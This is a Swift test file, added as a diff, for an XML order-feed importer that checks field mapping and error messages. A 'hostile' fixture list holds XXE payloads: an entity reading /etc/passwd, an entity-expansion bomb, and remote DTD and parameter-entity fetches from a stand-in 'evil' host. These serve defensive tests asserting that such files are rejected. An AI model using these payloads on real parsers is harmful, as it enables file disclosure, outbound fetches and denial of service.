@@ -1,0 +1,121 @@
+import Foundation
+import Testing
+@testable import OrderImport
+
+@Suite struct XMLFeedReaderTests {
+    let orders = """
+        feed: orders
+        format: xml
+        xml:
+          record: /o:Orders/o:Order
+          lines: o:Line
+          namespaces: { o: "urn:example:orders" }
+        fields:
+          order_ref: ../@id
+          order_date: ../o:Date
+          customer_ref: ../o:Customer/@ref
+          line_no: "@no"
+          sku: o:Sku
+          quantity: o:Qty
+          order.channel: ../@channel
+          line.colour: o:Sku/@colour
+        """
+
+    @Test func namespacesAttributesAndInheritedHeaderValues() throws {
+        let xml = """
+            <?xml version="1.0"?>
+            <Orders xmlns="urn:example:orders">
+              <Order id="A1" channel="phone">
+                <Date>2026-11-26</Date><Customer ref="C1"/>
+                <Line no="1"><Sku colour="red">X</Sku><Qty>2</Qty></Line>
+                <Line no="2"><Sku>Y</Sku><Qty>3</Qty></Line>
+              </Order>
+              <Order id="A2"><Date>2026-11-27</Date><Customer ref="C2"/><Line no="1"><Sku>Z</Sku><Qty>1</Qty></Line></Order>
+            </Orders>
+            """
+        let records = try read(orders, xml, suffix: ".xml")
+        #expect(records.count == 3)
+        let first = try records[0].get()
+        #expect(first.values[Feed.orders.index(of: "order_ref")] == "A1")
+        #expect(first.values[Feed.orders.index(of: "customer_ref")] == "C1")
+        #expect(first.values[Feed.orders.index(of: "order_date")] == "2026-11-26T00:00:00Z")
+        #expect(first.custom == ["order.channel": "phone", "line.colour": "red"])
+        #expect(first.line == 5)
+        #expect(first.location == "record 1 (/o:Orders/o:Order), line element 1")
+        let second = try records[1].get()
+        #expect(second.values[Feed.orders.index(of: "order_ref")] == "A1")
+        #expect(second.values[Feed.orders.index(of: "quantity")] == "3")
+        #expect(try records[2].get().values[Feed.orders.index(of: "order_ref")] == "A2")
+    }
+
+    @Test func aBadRecordNamesItsNumberAndPath() throws {
+        let yaml = """
+            feed: receipts
+            xml: { record: //R }
+            fields: { receipt_ref: "@id", sku: Sku, quantity: { path: Qty, min: 1 } }
+            """
+        let records = try read(yaml, "<Rs><R id=\"1\"><Sku>A</Sku><Qty>0</Qty></R></Rs>", suffix: ".xml")
+        #expect(records[0].rejection?.description == "record 1 (//R), line 1: field quantity: found '0', expected at least 1")
+    }
+
+    @Test func aFileThatIsNotWellFormedIsRejectedWithLineAndColumn() {
+        let yaml = "feed: receipts\nxml: { record: //R }\nfields: { receipt_ref: \"@id\", sku: Sku, quantity: Qty }\n"
+        #expect {
+            _ = try read(yaml, "<Rs>\n<R id=\"1\"><Sku>A</Qty></R>\n</Rs>", suffix: ".xml")
+        } throws: { error in
+            let reason = (error as? FileRejection)?.reason ?? ""
+            return reason.hasPrefix("not well-formed XML at line 2, column ") && reason.contains("Opening and ending tag mismatch: Sku")
+        }
+    }
+
+    static let hostile: [(String, String)] = [
+        ("external entity", """
+            <?xml version="1.0"?>
+            <!DOCTYPE Rs [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+            <Rs><R id="1"><Sku>&xxe;</Sku><Qty>1</Qty></R></Rs>
+            """),
+        ("entity expansion bomb", """
+            <?xml version="1.0"?>
+            <!DOCTYPE Rs [
+              <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
+              <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
+              <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
+              <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
+              <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
+              <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
+              <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
+            ]>
+            <Rs><R id="1"><Sku>&g;</Sku><Qty>1</Qty></R></Rs>
+            """),
+        ("remote DTD", """
+            <?xml version="1.0"?>
+            <!DOCTYPE Rs SYSTEM "http://dtd.invalid/evil.dtd">
+            <Rs><R id="1"><Sku>A</Sku><Qty>1</Qty></R></Rs>
+            """),
+        ("parameter entity", """
+            <?xml version="1.0"?>
+            <!DOCTYPE Rs [<!ENTITY % remote SYSTEM "http://dtd.invalid/x.dtd"> %remote;]>
+            <Rs><R id="1"><Sku>A</Sku><Qty>1</Qty></R></Rs>
+            """),
+    ]
+
+    @Test(arguments: hostile)
+    func hostileFilesAreRejectedBeforeAnythingIsExpandedOrFetched(name: String, xml: String) {
+        let yaml = "feed: receipts\nxml: { record: //R }\nfields: { receipt_ref: \"@id\", sku: Sku, quantity: Qty }\n"
+        var records: [Result<MappedRecord, RecordRejection>] = []
+        #expect {
+            records = try read(yaml, xml, suffix: ".xml")
+        } throws: { error in
+            let reason = (error as? FileRejection)?.reason ?? "\(error)"
+            return reason.contains("declares a DTD") || reason.hasPrefix("not well-formed XML")
+        }
+        #expect(records.isEmpty, "\(name): no record may be read")
+    }
+
+    @Test func aRecordPathThatMatchesNothingIsAFileError() {
+        let yaml = "feed: receipts\nxml: { record: /Nope }\nfields: { receipt_ref: \"@id\", sku: Sku, quantity: Qty }\n"
+        #expect {
+            _ = try read(yaml, "<Rs><R id=\"1\"/></Rs>", suffix: ".xml")
+        } throws: { ($0 as? FileRejection)?.reason.hasPrefix("no record elements found at '/Nope'") == true }
+    }
+}
